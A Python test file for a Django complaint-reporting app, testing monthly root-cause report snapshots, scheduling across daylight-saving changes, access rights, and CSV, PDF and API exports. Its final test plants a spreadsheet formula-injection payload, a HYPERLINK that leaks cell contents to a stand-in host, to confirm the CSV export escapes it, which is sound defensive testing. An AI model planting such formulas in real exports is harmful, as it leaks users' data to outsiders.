"""Reports as snapshots: made on demand and by the monthly schedule (Amsterdam time, across
daylight-saving changes), emailed once, refused with clear messages, shown, exported."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pypdf
import pytest
from celery.schedules import crontab
from django.conf import settings
from django.core.management import CommandError, call_command
from django.urls import reverse

from common.errors import ActionForbidden, InvalidData
from complaints.models import OutgoingEmail
from config.celery import app
from reports import services, tasks
from reports.exports import figure_rows
from reports.models import ReportKind, RootCauseReport
from tests.factories import make_complaint
from tests.reports.conftest import COMPUTED_AT, MAY_END, MAY_START, at
from tests.reports.conftest import snapshot as db_snapshot

AMS = ZoneInfo("Europe/Amsterdam")


@pytest.fixture
def may_report(may_data, quality):
    return services.report_generate(start=MAY_START, end=MAY_END, actor=quality, now=COMPUTED_AT)


def test_the_snapshot_does_not_change_when_complaints_arrive_later(may_report, agent):
    stored = RootCauseReport.objects.get(pk=may_report.pk).figures
    make_complaint(owner=agent, received_at=at(5, 15))
    assert RootCauseReport.objects.get(pk=may_report.pk).figures == stored
    assert stored["volumes"]["received"]["total"] == 7
    again = services.report_generate(start=MAY_START, end=MAY_END, actor=None, now=COMPUTED_AT)
    assert again.figures["volumes"]["received"]["total"] == 8


@pytest.mark.parametrize(
    ("start", "end", "field", "message"),
    [
        (date(2026, 6, 1), date(2026, 6, 30), "end", "cannot end in the future"),
        (date(2026, 5, 10), date(2026, 5, 9), "end", "is empty"),
        (None, date(2026, 5, 9), "start", "required"),
        (date(2023, 1, 1), date(2026, 5, 9), "end", "at most two years"),
    ],
)
def test_bad_periods_are_refused_in_words_and_nothing_is_stored(
    quality, start, end, field, message
):
    before = db_snapshot()
    with pytest.raises(InvalidData) as refused:
        services.report_generate(start=start, end=end, actor=quality, now=COMPUTED_AT)
    assert message in str(refused.value.errors[field][0])
    assert db_snapshot() == before


def test_an_agent_may_not_make_a_report(agent):
    with pytest.raises(ActionForbidden):
        services.report_generate(start=None, end=None, actor=agent, now=COMPUTED_AT)


def test_the_monthly_report_is_made_once_and_emailed_once(db, settings):
    settings.ROOT_CAUSE_REPORT_RECIPIENTS = ["iedereen@example.com", "directie@example.com"]
    first = services.report_generate_monthly(month=MAY_START, now=COMPUTED_AT)
    second = services.report_generate_monthly(month=MAY_START, now=COMPUTED_AT)
    assert first.pk == second.pk
    assert first.kind == ReportKind.MONTHLY
    assert (first.period_start, first.period_end) == (MAY_START, MAY_END)
    emails = OutgoingEmail.objects.filter(template="root_cause_report").order_by("to")
    assert [e.to for e in emails] == ["directie@example.com", "iedereen@example.com"]
    assert f"/reports/{first.pk}/" in emails[0].body_text
    assert "2026" in emails[0].subject


@pytest.mark.parametrize(
    ("now", "month"),
    [
        # 00:30 on 1 April in Amsterdam is still 31 March in UTC: the report is for March.
        (datetime(2026, 4, 1, 0, 30, tzinfo=AMS), date(2026, 3, 1)),
        (datetime(2026, 11, 1, 6, 0, tzinfo=AMS), date(2026, 10, 1)),
        (datetime(2026, 1, 1, 6, 0, tzinfo=AMS), date(2025, 12, 1)),
    ],
)
def test_previous_month_is_taken_in_amsterdam_time(now, month):
    assert services.previous_month(now.astimezone(ZoneInfo("UTC"))) == month


@pytest.mark.parametrize(
    ("last_run", "next_run"),
    [
        # Across the spring change (29 March 2026): 06:00 local both times, 23 h less one hour.
        (datetime(2026, 3, 1, 6, 0, tzinfo=AMS), datetime(2026, 4, 1, 6, 0, tzinfo=AMS)),
        # Across the autumn change (25 October 2026).
        (datetime(2026, 10, 1, 6, 0, tzinfo=AMS), datetime(2026, 11, 1, 6, 0, tzinfo=AMS)),
    ],
)
def test_beat_fires_on_the_first_at_six_amsterdam_time_across_dst(last_run, next_run):
    entry = settings.CELERY_BEAT_SCHEDULE["monthly-root-cause-report"]
    assert entry["task"] == "reports.monthly_report"
    utc_last = last_run.astimezone(ZoneInfo("UTC"))
    schedule = crontab(
        minute=0, hour=6, day_of_month=1, app=app, nowfun=lambda: utc_last + timedelta(minutes=1)
    )
    assert repr(entry["schedule"]) == repr(schedule)  # the same fields
    assert str(app.conf.timezone) == "Europe/Amsterdam"
    fires_at = schedule.nowfun() + schedule.remaining_estimate(utc_last)
    assert fires_at.astimezone(AMS) == next_run
    assert services.previous_month(next_run) == last_run.date().replace(day=1)


def test_the_beat_task_makes_last_months_report(db, time_machine):
    time_machine.move_to(datetime(2026, 6, 1, 6, 0, tzinfo=AMS))
    pk = tasks.monthly_report()
    report = RootCauseReport.objects.get(pk=pk)
    assert (report.period_start, report.period_end, report.kind) == (MAY_START, MAY_END, "monthly")
    assert report.generated_by is None
    assert tasks.monthly_report() == pk


def test_the_command_makes_a_report_and_says_what_it_found(may_data, capsys, time_machine):
    time_machine.move_to(COMPUTED_AT)
    call_command("root_cause_report", "--month", "2026-05")
    assert "7 received, 6 resolved" in capsys.readouterr().out
    with pytest.raises(CommandError, match="future"):
        call_command("root_cause_report", "--month", "2026-07")
    with pytest.raises(CommandError, match="2026-05"):
        call_command("root_cause_report", "--month", "May")


# --- Pages -------------------------------------------------------------------------------------


def test_report_page_shows_charts_and_the_same_figures_as_tables(client, may_report, manager):
    client.force_login(manager)
    page = client.get(reverse("report-page", args=[may_report.pk]))
    assert page.status_code == 200
    html = page.content.decode()
    assert html.count("<svg") == 3
    assert 'role="img"' in html
    assert 'id="pareto-table"' in html
    assert "83.3 %" in html
    assert 'data-testid="received-total">7<' in html


def _text(html: str) -> str:
    return " ".join(re.sub(r"<[^>]+>", " ", html).split())


def test_the_page_shows_the_emotion_journey_and_saying_no_measured(client, may_report, manager):
    client.force_login(manager)
    html = client.get(reverse("report-page", args=[may_report.pk])).content.decode()
    journey = _text(html[html.index('id="journey-table"') :].split("</table>")[0])
    assert "From resolution to the follow-up 4 1 2 1 25.0 %" in journey
    assert "From intake to the follow-up 4 3 0 1 75.0 %" in journey
    per_outcome = _text(html[html.index('id="outcome-journey-table"') :].split("</table>")[0])
    # Outcome, resolved, better at resolution, follow-ups, better after resolution / intake,
    # NPS answers, NPS.
    assert "Not upheld 2 100.0 % 2 100.0 % 100.0 % 2 0.0" in per_outcome
    assert "Partly upheld 1 0.0 % 0 – – 0 –" in per_outcome
    emotions = _text(html[html.index('id="emotion-table"') :].split("</table>")[0])
    assert "At the follow-up" in emotions
    assert "Satisfied 0 3 2" in emotions


def test_reports_made_before_the_journey_still_open(client, may_report, manager):
    may_report.figures.pop("journey")
    may_report.save(update_fields=["figures"])
    client.force_login(manager)
    page = client.get(reverse("report-page", args=[may_report.pk]))
    assert page.status_code == 200
    assert 'id="journey-table"' not in page.content.decode()
    assert not [row for row in figure_rows(may_report.figures) if row[0] == "journey"]


def test_agents_do_not_see_reports(client, may_report, agent):
    client.force_login(agent)
    assert client.get(reverse("report-page", args=[may_report.pk])).status_code == 403
    assert client.get(reverse("report-list")).status_code == 403


def test_quality_makes_a_report_from_the_list_page(client, may_data, quality, time_machine):
    time_machine.move_to(COMPUTED_AT)
    client.force_login(quality)
    refused = client.post(reverse("report-list"), {"start": "2026-06-01", "end": "2026-06-30"})
    assert refused.status_code == 400
    assert "cannot end in the future" in refused.content.decode()
    made = client.post(reverse("report-list"), {"start": "2026-05-01", "end": "2026-05-31"})
    report = RootCauseReport.objects.get()
    assert made.status_code == 302
    assert made["Location"] == reverse("report-page", args=[report.pk])


def test_a_manager_cannot_make_reports(client, manager):
    client.force_login(manager)
    response = client.post(reverse("report-list"), {"start": "2026-05-01", "end": "2026-05-31"})
    assert response.status_code == 403


def test_csv_holds_the_raw_aggregates(client, may_report, quality):
    client.force_login(quality)
    response = client.get(reverse("report-page-csv", args=[may_report.pk]))
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["section", "dimension", "key", "metric", "value"]
    assert ["timings", "resolve", "", "p90_hours", "56.25"] in rows
    assert ["pareto", "root_cause", "delivery-late", "cumulative_share", "0.8333"] in rows
    assert ["journey", "overall", "intake_follow_up", "better_share", "0.75"] in rows
    assert ["journey", "outcome.not_upheld", "nps", "promoters", "1"] in rows
    assert ["journey", "outcome.upheld", "resolution_follow_up", "worse", "1"] in rows
    assert ["journey", "at_follow_up", "satisfied", "count", "2"] in rows


def test_pdf_is_the_whole_report(client, may_report, quality):
    client.force_login(quality)
    response = client.get(reverse("report-page-pdf", args=[may_report.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    text = " ".join(
        page.extract_text() for page in pypdf.PdfReader(io.BytesIO(response.content)).pages
    )
    assert "Saying no, measured" in text
    assert "From intake to the follow-up" in text


# --- API ---------------------------------------------------------------------------------------


def test_api_lists_retrieves_and_exports(api_as, may_report, manager):
    api = api_as(manager)
    listed = api.get("/api/root-cause-reports/").json()
    assert [r["id"] for r in listed["results"]] == [may_report.pk]
    assert "figures" not in listed["results"][0]
    one = api.get(f"/api/root-cause-reports/{may_report.pk}/").json()
    assert one["figures"]["pareto"]["total"] == 6
    exported = api.get(f"/api/root-cause-reports/{may_report.pk}/csv/")
    assert exported.status_code == 200
    assert exported.content.startswith(b"section,")


def test_api_generates_for_a_range_and_refuses_in_order(
    api_as, may_data, quality, agent, time_machine
):
    time_machine.move_to(COMPUTED_AT + timedelta(days=1))
    assert api_as(agent).post("/api/root-cause-reports/", {}, format="json").status_code == 403
    api = api_as(quality)
    assert api.post("/api/root-cause-reports/", {"start": "x"}, format="json").status_code == 400
    bad = api.post(
        "/api/root-cause-reports/", {"start": "2026-05-31", "end": "2026-05-01"}, format="json"
    )
    assert bad.status_code == 400
    assert "end" in bad.json()
    made = api.post(
        "/api/root-cause-reports/", {"start": "2026-05-01", "end": "2026-05-31"}, format="json"
    )
    assert made.status_code == 201
    assert made.json()["figures"]["volumes"]["resolved"]["total"] == 6


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_never_run_as_formulas(client, may_data, agent, quality, start):
    """A category or team name from the data that starts like a formula is written as text (a
    leading apostrophe, OWASP); numbers, negative ones too, stay numbers."""
    formula = f'{start}HYPERLINK("https://example.invalid/?leak="&A1,"open")'
    for complaint in list(may_data.values())[:2]:
        type(complaint).objects.filter(pk=complaint.pk).update(category=formula)
    agent.team.name = f"{start}SUM(1+1)"
    agent.team.save()
    report = services.report_generate(start=MAY_START, end=MAY_END, actor=quality, now=COMPUTED_AT)
    client.force_login(quality)
    body = client.get(reverse("report-page-csv", args=[report.pk])).content.decode()
    cells = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
    assert f"'{formula}" in cells  # the category
    assert f"'{start}SUM(1+1)" in cells  # the team
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert "-50.0" in cells  # the NPS of a cause, still a number
    assert [c for c in cells if c.startswith("-")] == [
        c for c in cells if _number(c) and c[0] == "-"
    ]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
